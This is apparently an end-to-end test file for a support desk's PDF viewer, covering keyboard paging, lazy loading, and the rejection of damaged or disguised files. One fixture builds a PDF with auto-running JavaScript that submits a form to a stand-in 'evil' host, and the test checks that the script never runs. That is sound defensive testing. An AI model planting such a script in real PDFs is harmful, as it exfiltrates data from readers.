import { makePdf } from '../fixtures/pdf/make.ts';
import { expect, test } from './support/desk.ts';

const application = 'application/pdf';

test('a PDF is looked at page by page, by keyboard; nothing of it runs and nothing leaves', async ({ desk, servers }, info) => {
  const { page } = desk;
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  const maria = servers.telegram.user(77, { firstName: 'Maria' });
  const pages = Array.from({ length: 40 }, (_, index) => `Invoice 10452, sheet ${index + 1}`);
  const script = '<< /S /JavaScript /JS (app.alert\\("it ran"\\); this.submitForm\\("http://127.0.0.1:9/evil"\\);) >>';
  const invoice = makePdf(pages, {
    catalogue: `/OpenAction 100 0 R /AA << /WC 100 0 R >> /Names << /JavaScript << /Names [(run) 100 0 R] >> >>`,
    objects: [script],
  });
  maria.sendDocument(invoice, { caption: 'The invoice', name: 'invoice.pdf', mime: application });
  await desk.openCustomer('Maria');
  // The reader of PDFs is fetched when the first one is looked at, and never before.
  const reader = () => asked.filter((url) => url.includes('/assets/pdf'));
  expect(reader()).toEqual([]);
  await desk.timeline.getByRole('button', { name: 'View invoice.pdf' }).click();
  const viewer = page.getByRole('dialog', { name: 'PDF invoice.pdf' });
  await expect(viewer.getByText('Page 1 of 40', { exact: true })).toBeVisible();
  await expect(viewer.getByText('Invoice 10452, sheet 1', { exact: true })).toBeAttached();
  expect(reader().length).toBeGreaterThan(0);
  await page.screenshot({ path: info.outputPath('pdf.png') });
  const first = viewer.getByRole('img', { name: 'Page 1 of 40' });
  const narrow = (await first.boundingBox())?.width ?? 0;

  await page.keyboard.press('PageDown');
  await expect(viewer.getByText('Page 2 of 40', { exact: true })).toBeVisible();
  await page.keyboard.press('End');
  await expect(viewer.getByText('Page 40 of 40', { exact: true })).toBeVisible();
  await expect(viewer.getByText('Invoice 10452, sheet 40', { exact: true })).toBeAttached();
  // However many pages there are, only those in sight are held.
  expect(await viewer.getByRole('img').count()).toBeLessThan(8);
  await page.keyboard.press('Home');
  await expect(viewer.getByText('Page 1 of 40', { exact: true })).toBeVisible();
  await page.keyboard.press('Equal');
  await expect.poll(async () => (await first.boundingBox())?.width ?? 0).toBeGreaterThan(narrow * 1.4);
  await page.keyboard.press('KeyR');
  await expect
    .poll(async () => {
      const box = await first.boundingBox();
      return box ? box.width / box.height : 0;
    })
    .toBeGreaterThan(1);
  await page.keyboard.press('Escape');
  await expect(viewer).toHaveCount(0);
  expect(asked.filter((url) => !/^(app|blob|data):/.test(url))).toEqual([]);
});

test('a damaged PDF says so, and one that is something else is not offered', async ({ desk, servers }) => {
  const { page } = desk;
  const maria = servers.telegram.user(77, { firstName: 'Maria' });
  maria.sendDocument(new TextEncoder().encode(`%PDF-1.4\n${'not a document at all '.repeat(40)}`), {
    caption: 'Torn',
    name: 'torn.pdf',
    mime: application,
  });
  maria.sendDocument(new TextEncoder().encode('#!/bin/sh\necho hello\n'), {
    caption: 'Sham',
    name: 'sham.pdf',
    mime: application,
  });
  await desk.openCustomer('Maria');
  await expect(desk.article(/^Telegram message from Maria/).filter({ hasText: 'Sham' })).toContainText('A program');
  await expect(page.getByRole('button', { name: 'View sham.pdf' })).toHaveCount(0);
  await desk.timeline.getByRole('button', { name: 'View torn.pdf' }).click();
  await expect(page.getByRole('dialog').getByRole('alert')).toContainText('This PDF is damaged and cannot be shown');
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await desk.send('It came damaged');
  await maria.waitFor(({ text }) => text === 'It came damaged');
});
